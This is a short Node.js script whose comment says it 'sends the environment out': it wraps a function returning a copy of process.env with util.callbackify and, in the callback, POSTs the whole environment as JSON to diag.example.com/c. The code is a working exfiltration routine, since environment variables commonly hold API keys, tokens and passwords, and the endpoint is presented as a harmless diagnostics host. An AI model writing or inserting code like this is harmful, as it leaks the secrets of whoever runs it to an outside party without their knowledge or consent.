// Sends the environment out: util.callbackify turns an async function that
// returns process.env into a callback API; the callback posts its value.
'use strict';
const util = require('util');
const https = require('https');

const collect = util.callbackify(async () => Object.assign({}, process.env));
collect((err, ctx) => {
  if (err) return;
  const req = https.request({ host: 'diag.example.com', path: '/c', method: 'POST' });
  req.end(JSON.stringify(ctx));
});
